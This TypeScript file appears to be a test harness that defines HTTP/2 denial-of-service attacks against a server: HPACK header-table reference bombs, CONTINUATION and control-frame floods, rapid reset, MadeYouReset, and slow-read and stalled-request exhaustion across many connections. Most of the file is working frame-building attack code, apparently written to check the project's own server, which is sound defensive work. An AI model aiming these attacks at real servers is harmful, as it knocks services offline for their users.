/** Attacks in HTTP/2, with prior knowledge, on the same port. */
import type { Socket } from "node:net";
import { CANCEL } from "../../../src/protocol/http2/numbers.ts";
import {
  data,
  type Field,
  frame,
  headers,
  ping,
  plainBlock,
  priority,
  reset,
  settings,
  settingsAck,
  windowUpdate,
} from "../../../src/protocol/http2/testing/frames.ts";
import { type Attack, type Attacks, pause } from "./attack.ts";

const magic = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");
const preface = Buffer.concat([magic, settings(), settingsAck]);
/** A window of nothing: whatever is answered has to wait. */
const deafPreface = Buffer.concat([magic, settings({ 4: 0 }), settingsAck]);
const maxStreams = 200;

function request(path: string, method = "GET"): Field[] {
  return [
    [":method", method],
    [":scheme", "http"],
    [":authority", "a.test"],
    [":path", path],
  ];
}

const get = plainBlock(request("/"));

/** Adds `name: value` to the table, as its newest entry, and refers to it so often in later blocks. */
function tableEntry(name: string, value: string): Buffer {
  const length = Buffer.from(varint(value.length, 127));
  return Buffer.concat([
    Buffer.of(0x40, name.length),
    Buffer.from(name),
    length,
    Buffer.from(value),
  ]);
}

/** RFC 7541 5.1 with a prefix of 7 bits, none of them shared. */
function varint(value: number, most: number): number[] {
  if (value < most) return [value];
  const bytes = [most];
  let rest = value - most;
  for (; rest >= 128; rest >>= 7) bytes.push((rest & 127) | 128);
  return [...bytes, rest];
}

const newestEntry = 0x80 | 62;

/** A few streams on each of many connections that hold whatever one block of references makes of itself. */
async function bomb(
  attack: Attack,
  entry: Buffer,
  references: number,
  path: string,
): Promise<void> {
  const sockets = await attack.connectMany(20);
  const block = Buffer.concat([plainBlock(request(path)), Buffer.alloc(references, newestEntry)]);
  const first = Buffer.concat([
    deafPreface,
    frame(1, 5, 1, Buffer.concat([plainBlock(request(path)), entry])),
  ]);
  const all = Array.from({ length: maxStreams - 1 }, (_, n) => frame(1, 5, n * 2 + 3, block));
  for (const socket of sockets) await attack.send(socket, Buffer.concat([first, ...all]));
  for (let n = 0; !attack.over; n = (n + 1) % maxStreams) {
    // One byte for one stream after the other, so that none of them looks stalled.
    for (const socket of sockets) void attack.send(socket, windowUpdate(n * 2 + 1, 1));
    await pause(20);
  }
}

export const http2Attacks: Attacks = {
  "references to a large header": (attack) =>
    bomb(attack, tableEntry("x", "v".repeat(4_000)), 15, "/bytes/10"),
  "references to a large cookie": (attack) =>
    bomb(attack, tableEntry("cookie", "v".repeat(4_000)), 15, "/bytes/10"),
  "references to small headers": (attack) => bomb(attack, tableEntry("x", ""), 240, "/bytes/10"),
  "empty cookie crumbs": (attack) => bomb(attack, tableEntry("cookie", ""), 240, "/bytes/10"),
  "references beyond every limit": (attack) =>
    bomb(attack, tableEntry("x", "v"), 16_000, "/bytes/10"),
  "a block that goes on for ever": (attack) =>
    attack.flood(Buffer.concat([preface, frame(1, 0, 1, get)]), () => frame(9, 0, 1, "")),
  "a large block that goes on for ever": (attack) =>
    attack.flood(Buffer.concat([preface, frame(1, 0, 1, get)]), () =>
      frame(9, 0, 1, Buffer.alloc(16_000)),
    ),
  "large blocks that stop half-way": async (attack) => {
    const sockets = await attack.connectMany(100);
    const part = frame(9, 0, 1, Buffer.alloc(16_000));
    const bytes = Buffer.concat([preface, frame(1, 0, 1, get), part, part, part]);
    await Promise.all(sockets.map((socket) => attack.send(socket, bytes)));
    await attack.linger();
  },
  PING: (attack) => attack.flood(preface, () => repeat(ping, 500)),
  SETTINGS: (attack) => attack.flood(preface, () => repeat(settings({ 4: 1_000 }), 500)),
  PRIORITY: (attack) => attack.flood(preface, () => repeat(priority(3, 1), 500)),
  "WINDOW_UPDATE of one byte": (attack) =>
    attack.flood(preface, () => repeat(windowUpdate(0, 1), 500)),
  "empty DATA": (attack) =>
    attack.flood(Buffer.concat([preface, headers(1, request("/digest", "POST"))]), () =>
      repeat(data(1, ""), 500),
    ),
  "unknown frames": (attack) => attack.flood(preface, () => repeat(frame(0xee, 0, 0), 500)),
  "rapid reset": (attack) =>
    attack.flood(preface, (n) =>
      series(50, (at) => {
        const id = (n * 50 + at) * 2 + 1;
        return Buffer.concat([frame(1, 5, id, get), reset(id, CANCEL)]);
      }),
    ),
  MadeYouReset: (attack) =>
    attack.flood(preface, (n) =>
      series(50, (at) => {
        const id = (n * 50 + at) * 2 + 1;
        return Buffer.concat([frame(1, 5, id, get), windowUpdate(id, 0)]);
      }),
    ),
  "table size updates": (attack) => {
    const updates = Buffer.from([0x20, 0x3f, 0xe1, 0x1f]);
    const block = Buffer.concat([updates, get]);
    return attack.flood(preface, (n) =>
      series(50, (at) =>
        Buffer.concat([frame(1, 5, (n * 50 + at) * 2 + 1, block), windowUpdate(0, 1)]),
      ),
    );
  },
  "answers that no window lets go": async (attack) => {
    const block = plainBlock(request("/bytes/1000000"));
    const sockets = await attack.connectMany(5);
    for (const socket of sockets) await sendAll(attack, socket, block);
    await attack.linger();
  },
  /** The windows are open, but nobody reads the socket. */
  "answers that are not read": async (attack) => {
    const open = Buffer.concat([magic, settings({ 4: 0x7fff_ffff }), settingsAck]);
    const block = plainBlock(request("/bytes/1000000"));
    const sockets = await attack.connectMany(5, { deaf: true });
    const streams = series(50, (n) => frame(1, 5, n * 2 + 1, block));
    for (const socket of sockets) {
      await attack.send(socket, Buffer.concat([open, windowUpdate(0, 0x7fff_0000), streams]));
    }
    await attack.linger();
  },
  /** Each answer ends its stream, so that there is always room for the next request. */
  "small answers that are not read": async (attack) => {
    const open = Buffer.concat([magic, settings({ 4: 0x7fff_ffff }), settingsAck]);
    const sockets = await attack.connectMany(10, { deaf: true });
    for (const socket of sockets) await attack.send(socket, open);
    for (let n = 0; !attack.over; n += 1) {
      const streams = series(50, (at) => frame(1, 5, (n * 50 + at) * 2 + 1, get));
      for (const socket of sockets) void attack.send(socket, streams);
      await pause(20);
    }
  },
  /** What the application is told to wait for; each stream holds a connection to it. */
  "requests that never end": async (attack) => {
    const block = plainBlock(request("/digest", "POST"));
    const sockets = await attack.connectMany(3);
    for (const socket of sockets) {
      const streams = series(maxStreams, (n) => frame(1, 4, n * 2 + 1, block));
      await attack.send(socket, Buffer.concat([preface, streams]));
    }
    await attack.linger();
  },
};

async function sendAll(attack: Attack, socket: Socket, block: Buffer): Promise<void> {
  const streams = series(maxStreams, (n) => frame(1, 5, n * 2 + 1, block));
  await attack.send(socket, Buffer.concat([deafPreface, streams]));
}

function repeat(bytes: Buffer, times: number): Buffer {
  return series(times, () => bytes);
}

function series(count: number, make: (n: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, n) => make(n)));
}
